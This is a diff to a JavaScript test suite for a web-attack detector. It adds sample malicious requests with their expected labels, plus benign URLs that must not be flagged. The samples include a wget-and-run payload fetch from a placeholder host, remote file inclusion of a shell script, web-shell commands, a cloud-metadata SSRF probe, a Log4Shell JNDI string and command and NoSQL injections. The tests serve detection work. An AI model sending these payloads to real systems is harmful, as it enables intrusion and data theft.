@@ -296,6 +296,11 @@ describe('web attacks', () => {
       ['/ping?ip=127.0.0.1;cat%20/etc/motd', 'command injection (RCE)'],
       ['/shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x', 'command injection (RCE)'],
       ['/index.php?page=php://input', 'code injection (RCE)'],
+      ['/ping?ip=127.0.0.1%7Cid', 'command injection (RCE)'],
+      ['/uploads/shell.php?cmd=whoami', 'command injection (RCE)'],
+      ['/uploads/shell.php?a=1&c=cat+/etc/motd', 'command injection (RCE)'],
+      ['/index.php?page=http://198.51.100.7/shell.txt?', 'code injection (RCE)'],
+      ['/fetch?url=http://169.254.169.254/latest/meta-data/', 'server-side request forgery (SSRF)'],
       [`/?x=$${'{jndi:ldap://192.0.2.1/a}'}`, 'Log4Shell'],
     ];
     for (const [uri, name] of expected) assert.equal(attack(uri), name, uri);
@@ -306,6 +311,8 @@ describe('web attacks', () => {
       'code injection (RCE)',
     );
     assert.equal(attack('/login', [], "user=admin'+or+'1'='1&pass=x"), 'SQL injection');
+    assert.equal(attack('/login', [], 'user=ana&password[$ne]=x'), 'NoSQL injection');
+    assert.equal(attack('/ping', [], 'ip=127.0.0.1|id'), 'command injection (RCE)');
   });
 
   it('are not what people search for, write and link to', () => {
@@ -322,6 +329,10 @@ describe('web attacks', () => {
       '/thumb?src=../../images/a.png',
       '/shop?size=15%22',
       '/?utm_content=a|b|c&cat=3',
+      '/connector?cmd=ls&target=l1_Lw',
+      '/rest?fields=name|id&c=cat',
+      '/go?to=https://example.com/a.php?b=1',
+      '/things?age[$gt]=5',
       '/?json=%7B%22a%22%3A%22b%22%2C%22c%22%3A1%7D',
     ])
       assert.equal(attack(uri), null, uri);
